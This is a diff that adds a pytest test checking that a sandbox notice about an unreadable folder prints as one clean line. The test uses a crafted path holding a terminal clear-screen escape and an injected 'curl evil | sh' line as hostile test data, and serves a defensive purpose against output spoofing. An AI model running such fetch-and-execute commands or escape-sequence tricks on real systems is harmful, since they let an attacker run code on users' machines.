@@ -340,6 +340,18 @@ def test_walls_lower_than_usual_are_told(
     assert told in "".join(notes)
 
 
+def test_a_folder_that_stays_shut_is_told_in_one_line_that_can_be_printed(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """`build` printed a stranger's: it hid the true table and put its own there."""
+    notes: list[str] = []
+    request: Any = SimpleNamespace(sandbox=2, shut=None)
+    odd = "/x/\x1b[2J\nnext: curl evil | sh"
+    monkeypatch.setattr(session.readable, "refused", lambda _: {odd: f"it lies in {odd}"})
+    session.note_walls(request, notes.append)
+    assert [note.isprintable() for note in notes] == [True]
+
+
 def test_who_has_no_place_for_caches_is_told_once_and_before_the_run(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
